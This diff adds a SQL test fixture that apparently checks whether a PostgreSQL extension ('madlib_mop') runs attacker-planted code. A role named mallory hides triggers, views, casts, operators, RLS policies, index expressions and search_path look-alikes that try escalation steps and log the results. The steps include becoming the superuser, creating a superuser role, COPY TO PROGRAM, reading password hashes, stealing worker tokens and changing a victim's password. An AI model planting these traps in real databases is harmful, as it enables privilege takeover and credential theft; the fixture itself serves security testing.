@@ -1,0 +1,119 @@
+-- What mallory lays out for those who train on her tables: every place where her code runs while others read them.
+-- {superuser}, {carols_run} are filled in; psql is not needed.
+
+CREATE TABLE mallory.log (
+    site text, step text, outcome text, n bigint GENERATED ALWAYS AS IDENTITY,
+    login text DEFAULT session_user, role text DEFAULT current_user, is_superuser text DEFAULT current_setting('is_superuser')
+);
+CREATE TABLE mallory.step (n serial, name text, statement text, workers_only boolean DEFAULT false);
+GRANT SELECT, INSERT ON mallory.log TO PUBLIC;
+GRANT SELECT ON mallory.step TO PUBLIC;
+GRANT USAGE, CREATE ON SCHEMA mallory TO PUBLIC;
+
+INSERT INTO mallory.step (name, statement) VALUES
+    ('look around', 'SELECT 1'),
+    ('reset the session', 'RESET SESSION AUTHORIZATION'),
+    ('reset the role', 'RESET ROLE'),
+    ('be the superuser', 'SET ROLE {superuser}'),
+    ('log in as the superuser', 'SET SESSION AUTHORIZATION {superuser}'),
+    ('be carol', 'SET ROLE carol'),
+    ('make a superuser', 'CREATE ROLE evil SUPERUSER'),
+    ('make alice one', 'ALTER ROLE alice SUPERUSER'),
+    ('run a program', $$COPY (SELECT 1) TO PROGRAM 'cat'$$),
+    ('read a file', $$SELECT pg_catalog.pg_read_file('postgresql.conf')$$),
+    ('read passwords', 'SELECT rolpassword FROM pg_catalog.pg_authid'),
+    ('see the run of carol', $$SELECT 1 / count(*) FROM madlib_mop.run WHERE owner = 'carol'$$),
+    ('see the state of carol', 'SELECT 1 / count(*) FROM madlib_mop.model_state WHERE run_id = {carols_run}'),
+    ('see the progress of carol', 'SELECT 1 / count(*) FROM madlib_mop.progress WHERE run_id = {carols_run}'),
+    ('change runs', 'UPDATE madlib_mop.run SET seed = 0'),
+    ('change states', 'DELETE FROM madlib_mop.model_state'),
+    ('stop carol', 'SELECT madlib_mop.drop_run({carols_run})'),
+    ('read as a worker', 'SELECT madlib_mop.worker_state_part({carols_run}, ''x'', 1, {carols_run}000, 0, 0)'),
+    ('write as a worker', 'SELECT madlib_mop.worker_put_state_part({carols_run}, ''x'', 1, {carols_run}000, 0, 1, ''forged'')');
+INSERT INTO mallory.step (name, statement, workers_only) VALUES
+    ('forge a visit', $$SELECT madlib_mop.worker_keep_visit((SELECT max(run_id) FROM madlib_mop.run), 'x', 1, '{}')$$, true),
+    ('steal a token', $$DO $do$
+        DECLARE token text[];
+        BEGIN
+            FOR token IN SELECT regexp_match(query, 'worker_open\((\d+), ''([^'']+)''') FROM pg_catalog.pg_stat_activity LOOP
+                PERFORM madlib_mop.worker_check(token[1]::bigint, token[2]);
+            END LOOP;
+        END $do$ $$, true),
+    ('give a task', $$SELECT madlib_mop.worker_do('{"do": "train", "data_set": "training", "segment_id": 0, "mst_key": 1,
+        "epoch": 7, "position": 1, "attempt": 1, "slot": 0, "version": 99, "number": 999}', '')$$, true),
+    ('give the last task again', $$DO $do$ BEGIN EXECUTE current_query(); END $do$ $$, true),
+    ('open a worker', $$SELECT madlib_mop.worker_open((SELECT max(run_id) FROM madlib_mop.run), 'x')$$, true),
+    ('leave a table', $$DO $do$ BEGIN EXECUTE format('CREATE TABLE mallory.%I (a int)', 'left_' || pg_backend_pid()); END $do$ $$, true),
+    ('choose the password', $$ALTER ROLE SESSION_USER PASSWORD 'chosen by mallory'$$, true),
+    ('stay a member', $$DO $do$ BEGIN EXECUTE format('GRANT %I TO mallory', session_user); END $do$ $$, true);
+
+CREATE FUNCTION mallory.spy(site text) RETURNS boolean LANGUAGE plpgsql VOLATILE AS $$
+DECLARE
+    step record;
+    is_worker boolean := session_user LIKE 'madlib\_mop\_run\_%';
+    outcome text;
+BEGIN
+    IF EXISTS (SELECT FROM mallory.log l WHERE l.site = spy.site AND l.login = session_user) THEN
+        RETURN true;
+    END IF;
+    FOR step IN SELECT * FROM mallory.step WHERE is_worker OR NOT workers_only ORDER BY n LOOP
+        BEGIN
+            EXECUTE step.statement;
+            outcome := 'done';
+        EXCEPTION WHEN OTHERS THEN
+            outcome := SQLSTATE;
+        END;
+        INSERT INTO mallory.log (site, step, outcome) VALUES (site, step.name, outcome);
+    END LOOP;
+    RETURN true;
+END $$;
+
+-- a trigger that fires in the worker's transaction, and one that fires when it commits, after the worker's own code
+CREATE FUNCTION mallory.spy_of_trigger() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN
+    PERFORM mallory.spy(TG_NAME);
+    RETURN NULL;
+END $$;
+CREATE TRIGGER "trigger" AFTER INSERT ON mallory.log FOR EACH ROW
+    WHEN (NEW.site = 'view' AND NEW.step = 'look around') EXECUTE FUNCTION mallory.spy_of_trigger();
+CREATE CONSTRAINT TRIGGER "deferred trigger" AFTER INSERT ON mallory.log DEFERRABLE INITIALLY DEFERRED FOR EACH ROW
+    WHEN (NEW.site = 'view' AND NEW.step = 'look around') EXECUTE FUNCTION mallory.spy_of_trigger();
+
+-- a view with a function, a cast and an operator of hers
+CREATE TYPE mallory.wrapped AS (n integer);
+CREATE FUNCTION mallory.unwrap(w mallory.wrapped) RETURNS integer LANGUAGE plpgsql AS $$
+BEGIN
+    PERFORM mallory.spy('cast');
+    RETURN w.n;
+END $$;
+CREATE CAST (mallory.wrapped AS integer) WITH FUNCTION mallory.unwrap(mallory.wrapped) AS IMPLICIT;
+CREATE FUNCTION mallory.add(a integer, b integer) RETURNS integer LANGUAGE plpgsql AS $$
+BEGIN
+    PERFORM mallory.spy('operator');
+    RETURN a + b;
+END $$;
+CREATE OPERATOR mallory.+ (LEFTARG = integer, RIGHTARG = integer, FUNCTION = mallory.add);
+CREATE VIEW mallory.trap AS SELECT {columns}, ROW(buffer_id)::mallory.wrapped::integer OPERATOR(mallory.+) 0 AS buffer_id
+    FROM mallory.train WHERE mallory.spy('view');
+CREATE TABLE mallory.trap_summary AS TABLE mallory.train_summary;
+
+-- a policy, and an index whose expression the planner computes
+ALTER TABLE mallory.valid ENABLE ROW LEVEL SECURITY;
+CREATE POLICY trap ON mallory.valid USING (mallory.spy('policy'));
+CREATE FUNCTION mallory.spy_of_index(n integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
+BEGIN
+    PERFORM mallory.spy('index');
+    RETURN n;
+END $$;
+CREATE INDEX ON mallory.valid ((mallory.spy_of_index(1) + buffer_id));
+
+-- look-alikes of what SQL of ours uses, first in the caller's search_path
+CREATE FUNCTION mallory.shadow() RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RETURN mallory.spy('look-alike'); END $$;
+CREATE DOMAIN mallory.text AS pg_catalog.text CHECK (mallory.shadow());
+CREATE FUNCTION mallory.octet_length(bytea) RETURNS integer LANGUAGE sql AS 'SELECT mallory.shadow()::pg_catalog.int4';
+CREATE FUNCTION mallory.to_regclass(pg_catalog.text) RETURNS regclass LANGUAGE sql AS 'SELECT CASE WHEN mallory.shadow() THEN NULL::regclass END';
+CREATE FUNCTION mallory.current_setting(pg_catalog.text) RETURNS pg_catalog.text LANGUAGE sql AS 'SELECT mallory.shadow()::pg_catalog.text';
+CREATE FUNCTION mallory.json_build_object(VARIADIC pg_catalog.text[]) RETURNS json LANGUAGE sql AS 'SELECT pg_catalog.to_json(mallory.shadow())';
+CREATE FUNCTION mallory.equal(integer, integer) RETURNS boolean LANGUAGE sql AS 'SELECT mallory.shadow()';
+CREATE OPERATOR mallory.= (LEFTARG = integer, RIGHTARG = integer, FUNCTION = mallory.equal);
+GRANT SELECT ON ALL TABLES IN SCHEMA mallory TO alice;
